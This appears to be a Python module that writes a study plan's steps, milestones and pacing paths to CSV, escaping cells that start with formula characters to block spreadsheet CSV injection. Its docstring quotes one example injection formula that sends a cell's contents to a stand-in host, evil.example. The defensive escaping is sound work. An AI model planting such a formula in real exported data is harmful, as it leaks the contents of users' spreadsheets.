"""A plan as CSV: one row per step, in plan order, with a header row.

Version 1 columns: id, milestone, kind, title, hours, due, status, since, note, resources (the
resource URLs joined by one space; URLs hold no spaces). Written by the csv module (RFC 4180
quoting, CRLF row ends), so titles and notes with commas, quotes or newlines survive a round
trip.

A version 2 plan starts each row with what it is (``row``: step, milestone or path) and adds
the track, the start, the weekly hours of a habit and a ``job_ready`` date: the steps come
first, then the dated milestones (job-ready among them), then a row per path and weekly pace
(``fast-10h``: the fast path at 10 h a week, finishing on ``due``, job-ready on ``job_ready``).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets an
apostrophe in front (OWASP's advice on CSV injection): a spreadsheet would otherwise run a
note such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` as a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

from ..engine.plans.model import Plan, Progress, StepState
from ._common import hours_text, iso, states_by_step

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

COLUMNS = (
    "id", "milestone", "kind", "title", "hours", "due", "status", "since", "note", "resources",
)  # fmt: skip
V2_COLUMNS = (
    "row", "id", "track", "milestone", "kind", "title", "start", "due", "hours", "weekly_hours",
    "job_ready", "status", "since", "note", "resources",
)  # fmt: skip
_PATH_NAMES = {"fast": "Fast path", "thorough": "Thorough path"}


def plan_csv(plan: Plan, progress: Progress) -> str:
    """The CSV text of every step with its current status (and, version 2, the dates)."""
    states = states_by_step(plan, progress)
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    if plan.tracks:
        writer.writerow(V2_COLUMNS)
        rows = _v2_rows(plan, states)
    else:
        writer.writerow(COLUMNS)
        rows = _v1_rows(plan, states)
    writer.writerows([inert(cell) for cell in row] for row in rows)
    return buffer.getvalue()


def inert(cell: str) -> str:
    """The cell as text a spreadsheet shows and never evaluates."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def _v1_rows(plan: Plan, states: dict[str, StepState]) -> Iterator[list[str]]:
    for step in plan.steps:
        state = states[step.id]
        yield [
            step.id,
            step.milestone or "",
            step.kind,
            step.title,
            hours_text(step.hours),
            step.due.isoformat(),
            state.status,
            iso(state.since) or "",
            state.note or "",
            " ".join(r.url for r in step.resources if r.url),
        ]


def _v2_rows(plan: Plan, states: dict[str, StepState]) -> Iterator[list[str]]:
    # A version 2 step may lead to several milestones; the first, by date, is the one it serves.
    in_milestone: dict[str, str] = {}
    for milestone in sorted(plan.milestones, key=lambda m: m.due):
        for step_id in milestone.steps:
            in_milestone.setdefault(step_id, milestone.id)
    for step in plan.steps:
        state = states[step.id]
        weekly = "" if step.weekly_hours is None else hours_text(step.weekly_hours)
        yield [
            "step", step.id, step.track or "", step.milestone or in_milestone.get(step.id, ""),
            step.kind, step.title, iso(step.start) or "", step.due.isoformat(),
            hours_text(step.hours), weekly, "", state.status, iso(state.since) or "",
            state.note or "", " ".join(r.url for r in step.resources if r.url),
        ]  # fmt: skip
    for milestone in sorted(plan.milestones, key=lambda m: m.due):
        day = milestone.due.isoformat()
        ready = day if milestone.id == "job-ready" else ""
        yield ["milestone", milestone.id, "", milestone.id, "", milestone.title, "", day, "", "",
               ready, "", "", "", ""]  # fmt: skip
    start = plan.preferences.start.isoformat()
    for option in plan.options:
        name = _PATH_NAMES.get(option.path, option.path)
        for pace in option.paces:
            weekly = hours_text(pace.hours_per_week)
            yield ["path", f"{option.path}-{weekly}h", "", "", option.path,
                   f"{name} at {weekly} h a week", start, pace.finish.isoformat(),
                   hours_text(option.hours), weekly, pace.job_ready.isoformat(), "", "", "",
                   ""]  # fmt: skip
